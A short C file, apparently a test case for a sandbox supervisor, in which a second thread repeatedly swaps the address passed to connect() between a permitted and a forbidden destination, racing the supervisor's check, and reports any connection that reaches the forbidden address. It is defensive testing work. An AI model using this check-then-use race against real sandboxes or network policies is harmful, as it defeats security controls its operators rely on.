/* Has another thread rewrite the address while the supervisor looks at it. */
#include "attack.h"
static address shown;

static void *rewrite(void *unused) {
    (void)unused;
    while (!over) {
        shown = to;
        for (volatile int wait = rand() % 4000; wait > 0; wait--) {}
        shown = remote;
        for (volatile int wait = rand() % 4000; wait > 0; wait--) {}
    }
    return NULL;
}

static void attack(void) {
    pthread_t other;
    shown = remote;
    pthread_create(&other, NULL, rewrite, NULL);
    double limit = now() + RACE;
    while (now() < limit) {
        int fd = fresh(SOCK_STREAM | SOCK_NONBLOCK);
        connect(fd, &shown.any, length(&to));
        writable(fd, 20);
        if (connected_to(fd, &to)) tell(fd);
        close(fd);
    }
}
